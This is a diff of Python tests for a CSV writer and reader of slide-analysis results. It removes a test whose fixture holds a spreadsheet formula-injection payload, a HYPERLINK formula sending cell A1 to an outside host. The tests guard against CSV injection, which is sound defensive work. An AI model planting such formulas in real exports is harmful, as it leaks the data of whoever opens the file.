@@ -61,27 +61,6 @@ def test_data_frames_where_pandas_is_there(out):
     assert frame["area_BCC_mm2"].sum() == 0.25
 
 
-FORMULA = '=HYPERLINK("http://example.org?x="&A1)'
-
-
-def test_texts_from_outside_are_no_formulas_and_read_results_gives_them_back(tmp_path):
-    model = {"model_name": "@model", "model_version": "+1.0-x"}
-    slides = [{"slide_id": "a", "status": "failed", "reason": "-\rno", "@who": FORMULA, "shift": "-2.5", **model}]
-    regions = [{"slide_id": "a", "piece": 1, "tissue": "-other", "area_mm2": -0.5, "@who": FORMULA, **model}]
-    write_tables(tmp_path, [{"slides": slides, "regions": regions}], ["@who", "shift"])
-    write_run(tmp_path, "@who", "shift")
-    for name in COLUMNS:
-        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as stream:
-            cells = [cell for row in csv.reader(stream) for cell in row if cell[:1] in ("=", "+", "-", "@")]
-        assert cells == {"slides": ["-2.5"], "regions": ["-0.5"]}.get(name, [])
-    results = read_results(tmp_path)
-    assert "@who" in results.slides.columns
-    for table, row in ((results.slides, slides[0]), (results.regions, regions[0])):
-        assert {key: cell for key, cell in table.rows[0].items() if cell is not None} == row | {
-            key: float(row[key]) for key in ("shift",) if key in row
-        }
-
-
 @settings(max_examples=25)
 @given(st.text(st.sampled_from("=+-@'\t\r\n\",0_.e ") | st.characters(codec="utf-8"), min_size=1))
 def test_any_text_comes_back_and_no_cell_begins_another_row(tmp_path_factory, text):
@@ -103,16 +82,8 @@ def test_codes_of_the_user_stay_texts(tmp_path, codes):
 
 def test_a_cancer_that_was_not_assessed_leaves_its_column_readable(tmp_path):
     cells = [(True, 0.9), ("not assessed", "not assessed"), (False, 0.1)]
-    slides = [
-        {
-            "slide_id": str(k),
-            "status": "done",
-            "cancer_BCC": present,
-            "cancer_BCC_confidence": sure,
-            "site": "not assessed",
-        }
-        for k, (present, sure) in enumerate(cells)
-    ]
+    keys = ("slide_id", "cancer_BCC", "cancer_BCC_confidence", "site")
+    slides = [dict(zip(keys, (str(k), *pair, "not assessed"), strict=True)) for k, pair in enumerate(cells)]
     write_tables(tmp_path, [{"slides": slides}], ["site"])
     write_run(tmp_path, "site")
     read = read_results(tmp_path).slides
